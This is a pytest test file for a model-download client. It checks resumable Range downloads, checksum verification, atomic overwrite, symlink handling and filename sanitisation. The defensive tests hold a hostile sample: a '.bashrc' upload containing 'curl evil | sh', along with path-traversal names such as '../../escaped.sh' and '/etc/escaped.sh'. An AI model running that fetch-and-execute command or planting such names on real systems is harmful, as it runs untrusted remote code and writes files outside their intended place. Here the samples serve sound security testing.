"""Downloads: streamed to a partial file, resumed with Range, verified, then moved into place."""

import hashlib

import pytest
from maisie import Config, Models
from maisie.errors import ChecksumMismatch, HiddenFileName, TargetExists
from maisie.utils.transfer import partial_path, safe_filename

from tests.conftest import Relay

SIZE = 3 * 1024 * 1024 + 123  # a few blocks, not a multiple of one


@pytest.fixture(scope="module")
def uploaded(server, shared_account, tmp_path_factory):
    """A model whose file is SIZE bytes of varied data; (model, bytes)."""
    folder = tmp_path_factory.mktemp("upload")
    data = b"".join(hashlib.sha256(str(i).encode()).digest() for i in range(SIZE // 32 + 1))[:SIZE]
    path = folder / "weights.bin"
    path.write_bytes(data)
    model = Models(shared_account.settings).upload("downloadable", path, git=False, progress=False)
    return model, data


def recording(models: Models) -> list:
    """The (status, Range header) of every download request the client makes."""
    seen = []

    def hook(response, **_):
        # GETs only: a download first asks with HEAD whether the server marks the version unsafe.
        if response.request.method == "GET" and response.request.url.endswith("/download/"):
            seen.append((response.status_code, response.request.headers.get("Range")))

    models.config.session.hooks["response"].append(hook)
    return seen


def test_it_keeps_the_stored_name_and_checks_the_sha(shared_account, uploaded, isolated):
    model, data = uploaded
    path = Models(shared_account.settings).download(model["id"], progress=False)
    assert path == isolated / "weights.bin"
    assert path.read_bytes() == data
    assert [p.name for p in isolated.iterdir()] == ["weights.bin"]  # no partial file left


def test_it_saves_into_a_folder_or_under_a_given_name(shared_account, uploaded, isolated):
    model, data = uploaded
    (isolated / "out").mkdir()
    models = Models(shared_account.settings)
    assert models.download(model["id"], "out", progress=False) == isolated / "out" / "weights.bin"
    renamed = models.download(model["id"], isolated / "out" / "copy.bin", progress=False)
    assert renamed.read_bytes() == data


def test_a_partial_download_is_resumed_with_range(shared_account, uploaded, isolated):
    model, data = uploaded
    target = isolated / "weights.bin"
    partial_path(target, model["file"]["sha256"]).write_bytes(data[:1_000_000])
    models = Models(shared_account.settings)
    seen = recording(models)

    path = models.download(model["id"], progress=False)

    assert seen == [(206, "bytes=1000000-")]
    assert path.read_bytes() == data
    assert not partial_path(target, model["file"]["sha256"]).exists()


def test_a_connection_dropped_mid_download_is_resumed(server, shared_account, uploaded, isolated):
    model, data = uploaded
    with Relay(server.url, cut_after=1_500_000) as relay:
        models = Models(Config(dictionary={**shared_account.settings, "api_url": f"{relay.url}/api/v1"}))
        seen = recording(models)
        path = models.download(model["id"], progress=False)
        assert relay.cut_done
    assert path.read_bytes() == data
    assert seen[0] == (200, None)
    assert seen[-1][0] == 206 and seen[-1][1].startswith("bytes=")
    assert int(seen[-1][1][6:-1]) > 1_000_000  # resumed near where it broke, not from zero


def test_a_corrupted_partial_file_is_refused_and_nothing_is_left(shared_account, uploaded, isolated):
    model, _ = uploaded
    target = isolated / "weights.bin"
    partial = partial_path(target, model["file"]["sha256"])
    partial.write_bytes(b"\0" * 1_000_000)  # wrong bytes where the real ones should be

    with pytest.raises(ChecksumMismatch, match="nothing was kept"):
        Models(shared_account.settings).download(model["id"], progress=False)

    assert not target.exists()
    assert not partial.exists()
    assert list(isolated.iterdir()) == []


def test_a_complete_partial_file_needs_no_transfer(shared_account, uploaded, isolated):
    model, data = uploaded
    partial_path(isolated / "weights.bin", model["file"]["sha256"]).write_bytes(data)
    models = Models(shared_account.settings)
    seen = recording(models)
    assert models.download(model["id"], progress=False).read_bytes() == data
    assert seen == []


def test_a_partial_file_longer_than_the_model_starts_over(shared_account, uploaded, isolated):
    model, data = uploaded
    partial_path(isolated / "weights.bin", model["file"]["sha256"]).write_bytes(data + b"extra")
    models = Models(shared_account.settings)
    seen = recording(models)
    assert models.download(model["id"], progress=False).read_bytes() == data
    assert seen == [(200, None)]


def test_an_existing_file_is_replaced_atomically_when_asked(shared_account, uploaded, isolated):
    model, data = uploaded
    (isolated / "weights.bin").write_bytes(b"old")
    path = Models(shared_account.settings).download(model["id"], progress=False, overwrite=True)
    assert path.read_bytes() == data
    assert [p.name for p in isolated.iterdir()] == ["weights.bin"]


def test_an_existing_file_is_kept_and_nothing_is_fetched_without_overwrite(shared_account, uploaded, isolated):
    model, _ = uploaded
    (isolated / "out").mkdir()
    for where in (None, "out", isolated / "out" / "weights.bin"):
        existing = isolated / "weights.bin" if where is None else isolated / "out" / "weights.bin"
        existing.write_bytes(b"old")
        models = Models(shared_account.settings)
        seen = recording(models)

        with pytest.raises(TargetExists, match=r"weights\.bin already exists; pass overwrite=True"):
            models.download(model["id"], where, progress=False)

        assert existing.read_bytes() == b"old"
        assert seen == []
    assert sorted(p.name for p in isolated.iterdir()) == ["out", "weights.bin"]
    assert [p.name for p in (isolated / "out").iterdir()] == ["weights.bin"]


def test_a_symlink_in_the_way_is_not_followed_or_replaced(shared_account, uploaded, isolated, tmp_path):
    model, _ = uploaded
    elsewhere = tmp_path / "precious"
    elsewhere.write_bytes(b"keep me")
    (isolated / "weights.bin").symlink_to(elsewhere)
    with pytest.raises(TargetExists):
        Models(shared_account.settings).download(model["id"], progress=False)
    assert elsewhere.read_bytes() == b"keep me"
    assert (isolated / "weights.bin").is_symlink()


def test_a_file_that_appears_during_the_download_is_not_replaced(shared_account, uploaded, isolated):
    model, data = uploaded
    target = isolated / "weights.bin"
    models = Models(shared_account.settings)

    def someone_else_writes(response, **_):
        # GETs only: a download first asks with HEAD whether the server marks the version unsafe.
        if response.request.method == "GET" and response.request.url.endswith("/download/"):
            target.write_bytes(b"theirs")

    models.config.session.hooks["response"].append(someone_else_writes)
    with pytest.raises(TargetExists):
        models.download(model["id"], progress=False)
    assert target.read_bytes() == b"theirs"

    # The verified partial file was kept: replacing the file now needs no transfer.
    again = Models(shared_account.settings)
    seen = recording(again)
    assert again.download(model["id"], progress=False, overwrite=True).read_bytes() == data
    assert seen == []
    assert [p.name for p in isolated.iterdir()] == ["weights.bin"]


def upload_named(account, name: str, content: bytes) -> dict:
    """A model whose file the server received under `name`, sent as is (no client in between)."""
    answer = account.session.post(
        f"{account.server.api_url}/models/",
        data={"name": "named", "project_id": account.project_id},
        files={"file": (name, content)},
        timeout=60,
    )
    assert answer.status_code == 201, answer.text
    return answer.json()["data"]


def test_a_stored_name_starting_with_a_dot_is_refused_unless_allowed(shared_account, isolated):
    model = upload_named(shared_account, ".bashrc", b"curl evil | sh\n")
    assert model["file"]["name"] == ".bashrc"
    models = Models(shared_account.settings)
    seen = recording(models)

    with pytest.raises(HiddenFileName, match=r"'.bashrc' starts with a dot .* allow_hidden=True"):
        models.download(model["id"], progress=False)
    assert list(isolated.iterdir()) == []
    assert seen == []

    assert models.download(model["id"], progress=False, allow_hidden=True) == isolated / ".bashrc"
    assert models.download(model["id"], isolated / "bashrc.txt", progress=False).read_bytes() == b"curl evil | sh\n"


@pytest.mark.parametrize("name", ["../../escaped.sh", "..\\..\\escaped.sh", "/etc/escaped.sh", "sub/dir/escaped.sh"])
def test_a_stored_name_with_folders_is_saved_as_a_plain_name_in_the_target_folder(
    shared_account, isolated, tmp_path, name
):
    model = upload_named(shared_account, name, b"payload")
    (isolated / "a" / "b").mkdir(parents=True)
    path = Models(shared_account.settings).download(model["id"], isolated / "a" / "b", progress=False)
    assert path == isolated / "a" / "b" / "escaped.sh"
    assert path.read_bytes() == b"payload"
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()) == [
        "work/a/b/escaped.sh"
    ]


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("model.pt", "model.pt"),
        ("../../x.pt", "x.pt"),
        ("a\\b.pt", "b.pt"),
        ("..", "model-7"),
        ("dir/..", "model-7"),
        (".", "model-7"),
        ("/", "model-7"),
        ("", "model-7"),
        (None, "model-7"),
        ("a\x00b\n\tc.pt", "abc.pt"),
        (" \x1b[31mred.pt ", "[31mred.pt"),
        (".bashrc", ".bashrc"),  # kept: whether a hidden file may be written is the caller's choice
    ],
)
def test_safe_filename_keeps_only_a_plain_name(given, kept):
    assert safe_filename(given, "model-7") == kept
